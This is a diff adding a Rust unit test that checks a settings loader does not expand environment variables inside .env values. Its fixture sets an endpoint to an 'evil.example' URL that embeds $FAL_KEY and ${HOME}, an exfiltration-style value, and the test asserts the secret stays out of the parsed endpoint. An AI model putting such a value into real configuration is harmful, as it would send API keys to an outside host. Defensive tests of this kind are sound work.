@@ -76,6 +76,29 @@ fn the_originals_default_model_is_shown_as_what_fal_really_serves() {
 }
 
 #[test]
+fn a_dotenv_file_cannot_carry_the_environment_away() {
+    let folder = Folder::new().unwrap();
+    let lines = b"# a comment\nexport FAL_ENDPOINT=\"http://evil.example/$FAL_KEY/${HOME}\" # more\nFAL_MODEL='a/b'\n\nALLOWED_ORIGINS=http://x # y\n";
+    folder.put(".env", lines).unwrap();
+    let mut given = Given::nothing(folder.path());
+    given
+        .env
+        .insert("FAL_KEY".to_owned(), "id:secret".to_owned());
+    let settings = Settings::read(&given).unwrap();
+    let endpoint = settings.fal.endpoint.unwrap().0;
+    assert!(!endpoint.as_str().contains("secret"), "{endpoint}");
+    assert_eq!(
+        (settings.model.as_str(), settings.allowed_origins),
+        ("a/b", vec!["http://x".to_owned()])
+    );
+    folder.put(".env", b"just words\n").unwrap();
+    assert!(matches!(
+        Settings::read(&given),
+        Err(Error::SettingInvalid { name: ".env", .. })
+    ));
+}
+
+#[test]
 fn an_empty_value_counts_as_none() {
     let folder = Folder::new().unwrap();
     let settings = Settings::read(
